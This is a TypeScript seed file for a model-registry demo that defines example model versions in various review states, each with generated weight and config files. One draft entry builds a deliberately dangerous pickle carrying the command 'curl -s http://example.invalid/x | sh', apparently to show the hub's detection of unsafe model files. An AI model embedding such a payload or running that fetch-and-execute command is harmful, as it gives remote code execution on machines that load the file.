/*
 * What the demo seed puts into Model Hub: versions of the example Models
 * (examples/models) in the states a new user should meet in the first
 * minute, and one Hugging Face repo of the bundled mock Hub.
 */
import {
  dangerousPickle,
  ggufFile,
  llamaConfig,
  onnxFile,
  safetensorsFile,
} from './files';

/** The state a seeded version is driven to. */
export type DemoTarget =
  | 'draft'
  | 'in_review'
  | 'changes_requested'
  | 'approved'
  | 'active'
  | 'deprecated';

export interface DemoFile {
  path: string;
  content: Buffer;
}

export interface DemoVersion {
  /** Name of the catalog Model (namespace default). */
  model: string;
  label: string;
  notes: string;
  /** Made when the version is created. */
  files: () => DemoFile[];
  target: DemoTarget;
  /** The example user who creates, uploads and submits (owner's group). */
  author: string;
  /** The reviewer's comment: with the approval or the change request. */
  review?: string;
}

const llamaTensors = (layers: number) => [
  { name: 'model.embed_tokens.weight', shape: [256, 64] },
  ...Array.from({ length: layers }, (_, i) => [
    { name: `model.layers.${i}.self_attn.q_proj.weight`, shape: [64, 64] },
    { name: `model.layers.${i}.self_attn.k_proj.weight`, shape: [64, 64] },
    { name: `model.layers.${i}.self_attn.v_proj.weight`, shape: [64, 64] },
    { name: `model.layers.${i}.self_attn.o_proj.weight`, shape: [64, 64] },
    { name: `model.layers.${i}.mlp.up_proj.weight`, shape: [128, 64] },
    { name: `model.layers.${i}.mlp.down_proj.weight`, shape: [64, 128] },
  ]).flat(),
  { name: 'model.norm.weight', shape: [64] },
  { name: 'lm_head.weight', shape: [256, 64] },
];

const json = (data: unknown) =>
  Buffer.from(`${JSON.stringify(data, null, 2)}\n`);

const readme = (title: string, body: string) =>
  Buffer.from(`# ${title}\n\n${body}\n\nSeeded by the Model Hub demo.\n`);

/** The versions, in the order they are seeded. */
export const DEMO_VERSIONS: DemoVersion[] = [
  {
    model: 'llama-3-8b-instruct',
    label: 'v0.9',
    notes: 'First internal build; superseded by v1.0.',
    author: 'alice',
    target: 'deprecated',
    review: 'Approved for the pilot.',
    files: () => [
      { path: 'config.json', content: llamaConfig() },
      {
        path: 'model.safetensors',
        content: safetensorsFile(llamaTensors(1), 'llama-v0.9'),
      },
    ],
  },
  {
    model: 'llama-3-8b-instruct',
    label: 'v1.0',
    notes: 'Two layers, evaluated on the support eval set.',
    author: 'alice',
    target: 'active',
    review: 'Eval results match the model card. Approved.',
    files: () => [
      { path: 'config.json', content: llamaConfig() },
      {
        path: 'generation_config.json',
        content: json({ bos_token_id: 1, eos_token_id: 2, temperature: 0.6 }),
      },
      {
        path: 'model.safetensors',
        content: safetensorsFile(llamaTensors(2), 'llama-v1.0'),
      },
      {
        path: 'README.md',
        content: readme('Llama 3 8B Instruct', 'A small stand-in build.'),
      },
    ],
  },
  {
    model: 'llama-3-8b-instruct-q4-gguf',
    label: 'q4_k_m-v1',
    notes: 'GGUF for llama.cpp runtimes.',
    author: 'alice',
    target: 'active',
    review: 'Quantization checked against the base model.',
    files: () => [
      {
        path: 'llama-3-8b-instruct.Q4_K_M.gguf',
        content: ggufFile(
          {
            'general.architecture': 'llama',
            'general.name': 'Llama 3 8B Instruct (demo)',
            'llama.context_length': 2048,
            'llama.embedding_length': 64,
            'llama.block_count': 1,
          },
          [
            { name: 'token_embd.weight', shape: [256, 64] },
            { name: 'blk.0.attn_q.weight', shape: [64, 64] },
            { name: 'output_norm.weight', shape: [64] },
          ],
          'gguf-v1',
        ),
      },
    ],
  },
  {
    model: 'all-minilm-l6-v2',
    label: 'v1',
    notes: 'ONNX export for the search service.',
    author: 'alice',
    target: 'active',
    review: 'ONNX graph checked.',
    files: () => [
      {
        path: 'onnx/model.onnx',
        content: onnxFile({
          inputs: 64,
          outputs: 32,
          seed: 'minilm-v1',
          graphName: 'all-minilm-l6-v2',
        }),
      },
      {
        path: 'config.json',
        content: json({ architectures: ['BertModel'], model_type: 'bert' }),
      },
    ],
  },
  {
    model: 'bge-small-en-v1-5',
    label: 'v1.5',
    notes: 'Embedding model for retrieval.',
    author: 'alice',
    target: 'approved',
    review: 'Looks good.',
    files: () => [
      {
        path: 'model.safetensors',
        content: safetensorsFile(
          [
            { name: 'embeddings.word_embeddings.weight', shape: [256, 32] },
            { name: 'pooler.dense.weight', shape: [32, 32] },
          ],
          'bge-v1.5',
        ),
      },
      {
        path: 'config.json',
        content: json({ architectures: ['BertModel'], model_type: 'bert' }),
      },
    ],
  },
  {
    model: 'mistral-7b-instruct-v0-3',
    label: 'v0.3',
    notes: 'Candidate for the assistant platform; please review.',
    author: 'alice',
    target: 'in_review',
    files: () => [
      {
        path: 'config.json',
        content: Buffer.from(
          `${JSON.stringify(
            {
              architectures: ['MistralForCausalLM'],
              model_type: 'mistral',
              hidden_size: 64,
              num_attention_heads: 4,
              num_key_value_heads: 2,
              num_hidden_layers: 2,
              vocab_size: 256,
              torch_dtype: 'float32',
            },
            null,
            2,
          )}\n`,
        ),
      },
      {
        path: 'model.safetensors',
        content: safetensorsFile(llamaTensors(2), 'mistral-v0.3'),
      },
    ],
  },
  {
    model: 'support-assistant-llama3',
    label: '2025.06',
    notes: 'Fine-tune on the June support tickets.',
    author: 'alice',
    target: 'changes_requested',
    review:
      'Please add the evaluation results on support-eval-set to the model card before this goes out.',
    files: () => [
      { path: 'config.json', content: llamaConfig() },
      {
        path: 'adapter_model.safetensors',
        content: safetensorsFile(
          [
            { name: 'base_model.lora_A.weight', shape: [8, 64] },
            { name: 'base_model.lora_B.weight', shape: [64, 8] },
          ],
          'support-2025.06',
        ),
      },
    ],
  },
  {
    model: 'churn-predictor',
    label: 'v2-draft',
    notes: 'Retrained on Q2 data (the pickle came from an external notebook).',
    author: 'alice',
    target: 'draft',
    files: () => [
      {
        path: 'model.joblib',
        content: dangerousPickle('curl -s http://example.invalid/x | sh'),
      },
      {
        path: 'README.md',
        content: readme('Churn predictor', 'Gradient-boosted trees.'),
      },
    ],
  },
];

/** A repo of the bundled mock Hub that the seed registers (sync jobs). */
export const DEMO_HF_REPO = {
  repoId: 'acme/mini-embed',
  owner: 'group:default/ml-engineers',
  author: 'alice',
};
